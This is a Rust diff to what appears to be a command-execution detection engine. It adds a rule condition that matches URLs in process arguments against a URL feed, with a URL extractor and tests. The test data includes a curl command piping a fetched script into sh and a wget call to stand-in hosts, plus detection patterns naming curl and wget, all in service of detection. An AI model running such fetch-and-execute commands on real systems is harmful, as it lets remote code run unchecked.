@@ -179,6 +179,7 @@ pub struct ArgvMatcher {
     base64_raw: Vec<String>,
     min_args: Option<usize>,
     max_argc: Option<usize>,
+    url_listed: bool,
 }
 
 /// A compiled condition on a socket peer of stdin or stdout.
@@ -438,6 +439,22 @@ impl Matcher {
             || self.any.iter().any(Matcher::uses_metadata)
     }
 
+    /// Whether this tree asks the URL feed (`argv.url_listed`), anywhere.
+    pub fn uses_url_feed(&self) -> bool {
+        self.argv.as_ref().is_some_and(|a| a.url_listed)
+            || [
+                &self.parent,
+                &self.ancestor,
+                &self.not,
+                &self.stdin_writer,
+                &self.stdout_reader,
+            ]
+            .into_iter()
+            .flatten()
+            .any(|m| m.uses_url_feed())
+            || self.any.iter().any(Matcher::uses_url_feed)
+    }
+
     /// Whether this tree asks about pipe neighbours (anywhere, including the ancestry).
     pub fn uses_pipe_neighbours(&self) -> bool {
         self.stdin_writer.is_some()
@@ -601,14 +618,14 @@ impl Matcher {
                 return Truth::False;
             };
             let pre = evidence_prefix(ev, prefix, what);
-            match cond.truth(&Single(peer), 0, ev, &pre) {
+            match cond.truth(&Single(peer, view), 0, ev, &pre) {
                 Truth::False => return Truth::False,
                 Truth::Unknown => unknown = true,
                 Truth::True => {}
             }
         }
         if let Some(a) = &self.argv {
-            if !eval_argv(a, e, &mut |f, v| note(ev, prefix, f, v)) {
+            if !eval_argv(a, e, view, &mut |f, v| note(ev, prefix, f, v)) {
                 return Truth::False;
             }
         }
@@ -760,6 +777,7 @@ impl ArgvMatcher {
                         .all(|n| b.base64_raw.iter().any(|m| n.contains(m.as_str())))))
             && b.min_args.is_none_or(|m| self.min_args.is_some_and(|n| n >= m))
             && b.max_argc.is_none_or(|m| self.max_argc.is_some_and(|n| n <= m))
+            && (!b.url_listed || self.url_listed)
     }
 }
 
@@ -916,7 +934,7 @@ fn evidence_prefix(ev: &Option<&mut Vec<Evidence>>, prefix: &str, what: &str) ->
 }
 
 /// One exec on its own (a pipe neighbour): no ancestry, no neighbours.
-struct Single<'a>(&'a ExecEvent);
+struct Single<'a>(&'a ExecEvent, &'a dyn ExecView);
 
 impl ExecView for Single<'_> {
     fn at(&self, depth: usize) -> Option<&ExecEvent> {
@@ -925,6 +943,46 @@ impl ExecView for Single<'_> {
     fn stdin_writer(&self, _depth: usize) -> Option<&ExecEvent> {
         None
     }
+    /// The feed is the outer view's.
+    fn url_listed(&self, url: &str) -> bool {
+        self.1.url_listed(url)
+    }
+}
+
+/// The URLs in `arg`: from a `http://`, `https://` or `ftp://` scheme (any case) to the first
+/// space, quote, backquote or shell operator. Slices of `arg`: no allocation.
+pub(crate) fn urls(arg: &str) -> impl Iterator<Item = &str> {
+    let b = arg.as_bytes();
+    let mut from = 0;
+    std::iter::from_fn(move || {
+        while let Some(i) = arg[from..].find("://").map(|i| i + from) {
+            from = i + 3;
+            let start = ["https", "http", "ftp"].iter().find_map(|s| {
+                let n = s.len();
+                if i >= n && b[i - n..i].eq_ignore_ascii_case(s.as_bytes()) {
+                    Some(i - n)
+                } else {
+                    None
+                }
+            });
+            let Some(start) = start else { continue };
+            // The scheme must start the argument or follow a non-alphanumeric character.
+            if start > 0 && b[start - 1].is_ascii_alphanumeric() {
+                continue;
+            }
+            let end = arg[i + 3..]
+                .find(|c: char| {
+                    c.is_whitespace()
+                        || matches!(c, '"' | '\'' | '`' | '|' | ';' | '&' | '<' | '>' | ')')
+                })
+                .map_or(arg.len(), |j| i + 3 + j);
+            if end > i + 3 {
+                from = end;
+                return Some(&arg[start..end]);
+            }
+        }
+        None
+    })
 }
 
 fn compile_argv(a: &ArgvCond) -> Result<ArgvMatcher, PatternError> {
@@ -953,6 +1011,16 @@ fn compile_argv(a: &ArgvCond) -> Result<ArgvMatcher, PatternError> {
         base64_raw: a.base64_contains.clone().unwrap_or_default(),
         min_args: a.min_args,
         max_argc: a.max_argc,
+        url_listed: match a.url_listed {
+            Some(false) => {
+                return Err(PatternError::Invalid(
+                    "argv.url_listed = false is no condition; write `not = { argv = { url_listed = true } }`"
+                        .into(),
+                ))
+            }
+            Some(true) => true,
+            None => false,
+        },
     };
     if m.any.is_none()
         && m.none.is_none()
@@ -960,14 +1028,30 @@ fn compile_argv(a: &ArgvCond) -> Result<ArgvMatcher, PatternError> {
         && m.base64.is_none()
         && m.min_args.is_none()
         && m.max_argc.is_none()
+        && !m.url_listed
     {
         return Err(PatternError::Empty("argv"));
     }
     Ok(m)
 }
 
-fn eval_argv(a: &ArgvMatcher, e: &ExecEvent, note: &mut dyn FnMut(&str, &str)) -> bool {
+fn eval_argv(
+    a: &ArgvMatcher,
+    e: &ExecEvent,
+    view: &dyn ExecView,
+    note: &mut dyn FnMut(&str, &str),
+) -> bool {
     let args = e.argv.get(1..).unwrap_or(&[]);
+    if a.url_listed {
+        match args
+            .iter()
+            .flat_map(|x| urls(x))
+            .find(|u| view.url_listed(u))
+        {
+            Some(u) => note("argv.url", u),
+            None => return false,
+        }
+    }
     if let Some(n) = a.min_args {
         if args.len() < n {
             return false;
@@ -1197,6 +1281,36 @@ mod tests {
             "stdin_writer = { basename = [\"curl\"] }",
             "stdin_writer = { basename = [\"curl\", \"wget\"] }"
         ));
+    }
+
+    #[test]
+    fn urls_are_found_inside_arguments() {
+        let got: Vec<&str> =
+            urls("curl -fsSL HTTPS://x.example/a.sh?b=1|sh; wget 'http://203.0.113.9/p'").collect();
+        assert_eq!(got, ["HTTPS://x.example/a.sh?b=1", "http://203.0.113.9/p"]);
+        assert_eq!(urls("--url=ftp://h/f").collect::<Vec<_>>(), ["ftp://h/f"]);
+        assert_eq!(urls("xhttp://h/ git+ssh://h/r http://").count(), 0);
+        assert_eq!(urls("stratum+tcp://pool:3333").count(), 0);
+        // A scheme separator at the very start, or only one, is no URL (and no panic).
+        assert_eq!(urls("://x").count(), 0);
+        assert_eq!(urls("p://x s://").count(), 0);
+        assert_eq!(urls("é://x http://h/é").collect::<Vec<_>>(), ["http://h/é"]);
+        // Every substring (on char boundaries) of a mix of schemes, separators and
+        // multi-byte text: no panic, and every URL found starts with its scheme.
+        let mix = "ftp://é http:// xhttps://a ://b https://ü/p?q=1|sh ftp:/ http:/";
+        let cuts: Vec<usize> = mix
+            .char_indices()
+            .map(|(i, _)| i)
+            .chain([mix.len()])
+            .collect();
+        for &a in &cuts {
+            for &b in cuts.iter().filter(|&&b| b >= a) {
+                for u in urls(&mix[a..b]) {
+                    let l = u.to_ascii_lowercase();
+                    assert!(l.starts_with("http") || l.starts_with("ftp"), "{u}");
+                }
+            }
+        }
     }
 
     #[test]
